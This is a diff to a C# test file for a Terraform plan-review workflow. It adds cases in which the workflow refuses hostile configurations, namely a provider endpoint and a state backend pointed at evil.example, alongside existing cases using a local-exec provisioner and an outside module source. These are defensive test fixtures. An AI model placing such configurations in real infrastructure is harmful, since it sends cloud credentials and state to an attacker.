@@ -1,5 +1,6 @@
 using System.Text.Json.Nodes;
 using MlInferenceCdktf.App.Tests.Running;
+using MlInferenceCdktf.TestSupport;
 
 namespace MlInferenceCdktf.App.Tests.Review;
 
@@ -20,6 +21,8 @@ public sealed class PlanReviewWorkflowTests
         { "a provisioner", """{ "resource": { "google_compute_address": { "x": { "provisioner": [{ "local-exec": { "command": "id" } }] } } } }""" },
         { "another provider", """{ "provider": { "evil": [{}] } }""" },
         { "a provider of that name from elsewhere", """{ "terraform": { "required_providers": { "google": { "source": "evil.example/x/google" } } } }""" },
+        { "credentials sent elsewhere", """{ "provider": { "google": [{ "compute_custom_endpoint": "https://evil.example/" }] } }""" },
+        { "a state kept elsewhere", """{ "terraform": { "backend": { "http": { "address": "https://evil.example/" } } } }""" },
         { "a module", """{ "module": { "x": { "source": "git::ssh://evil.example/x" } } }""" },
         { "no JSON", "{" },
     };
@@ -46,7 +49,7 @@ public sealed class PlanReviewWorkflowTests
         Assert.Equal(exitCode == 1, result.Output.Contains("cp 'cdktf.out/stacks/chat-prod/cdk.tf.json' 'snapshots/chat-prod.tf.json'", StringComparison.Ordinal));
     }
 
-    [Theory, MemberData(nameof(Snapshots))]
+    [ToolTheory("jq"), MemberData(nameof(Snapshots))]
     public void What_the_library_makes_may_be_planned(string snapshot)
     {
         using var run = new WorkflowRun();
@@ -56,7 +59,7 @@ public sealed class PlanReviewWorkflowTests
         Assert.Equal(["stack/cdk.tf.json"], FileTree.Of(run.Folder).Keys);
     }
 
-    [Theory, MemberData(nameof(Dangerous))]
+    [ToolTheory("jq"), MemberData(nameof(Dangerous))]
     public void What_could_run_a_program_beside_credentials_is_refused(string what, string stack)
     {
         using var run = new WorkflowRun();
@@ -151,7 +154,7 @@ public sealed class PlanReviewWorkflowTests
         Assert.Empty(run.Calls);
     }
 
-    [Theory]
+    [ToolTheory("jq")]
     [InlineData("[]", "--method POST repos/acme/chat/issues/7/comments ")]
     [InlineData($$"""[{ "id": 11, "user": { "login": "mallory" }, "body": "{{Marker}}" }]""", "--method POST repos/acme/chat/issues/7/comments ")]
     [InlineData("""[{ "id": 12, "user": { "login": "github-actions[bot]" }, "body": "<!-- mlinf-review:chat-test:0123456789ab -->" }]""", "--method POST repos/acme/chat/issues/7/comments ")]
